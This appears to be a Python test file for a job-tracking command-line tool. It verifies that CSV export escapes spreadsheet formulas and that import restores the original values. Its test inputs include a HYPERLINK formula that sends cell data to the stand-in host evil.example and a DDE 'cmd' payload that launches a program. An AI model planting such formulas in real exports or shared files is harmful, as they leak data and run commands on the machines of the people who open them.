"""Names typed, pasted or imported by anyone are harmless where they end up: CSV exports
open in a spreadsheet without running anything, and the terminal shows user data without
its control sequences, through the real command line."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path
from typing import Any

HOSTILE_COMPANY = '=HYPERLINK("http://evil.example/?"&A1,"Acme")'
HOSTILE_CONTACT = "=cmd|' -C calc'!A0"


def _table(path: Path) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8"))))


def test_csv_export_neutralises_formulas_and_import_reads_them_back(
        followup: Any, tmp_path: Path) -> None:
    followup("init", "--timezone", "America/New_York", "--country", "US")
    added = followup("add", "--company", HOSTILE_COMPANY, "--role", "+Engineer",
                     "--interviewed", "2026-12-23T15:00", "--interviewer",
                     f"{HOSTILE_CONTACT}, @Manager", "--json").json()
    files = {}
    for table in ("applications", "contacts", "history"):
        files[table] = tmp_path / f"{table}.csv"
        followup("export", "--csv", "--table", table, "--output", str(files[table]))
    (app,) = _table(files["applications"])
    assert app["company"] == "'" + HOSTILE_COMPANY and app["role"] == "'+Engineer"
    (contact,) = _table(files["contacts"])
    assert contact["name"] == "'" + HOSTILE_CONTACT and contact["title"] == "'@Manager"
    for table in files.values():
        for row in csv.reader(io.StringIO(table.read_text(encoding="utf-8"))):
            assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for cell in row)

    raw = followup("export", "--csv", "--raw-csv").stdout
    (raw_app,) = csv.DictReader(io.StringIO(raw))
    assert raw_app["company"] == HOSTILE_COMPANY

    env = {"FOLLOWUP_DB": str(tmp_path / "elsewhere.db")}
    followup("init", "--timezone", "America/New_York", "--country", "US", env=env)
    followup("import", str(files["applications"]), "--contacts", str(files["contacts"]),
             "--history", str(files["history"]), env=env)
    shown = followup("show", added["id"], "--json", env=env).json()
    assert shown["company"] == HOSTILE_COMPANY and shown["role"] == "+Engineer"
    assert [(c["name"], c["title"]) for c in shown["contacts"]] == [(HOSTILE_CONTACT, "@Manager")]
    assert json.dumps(shown)  # the JSON output is exact
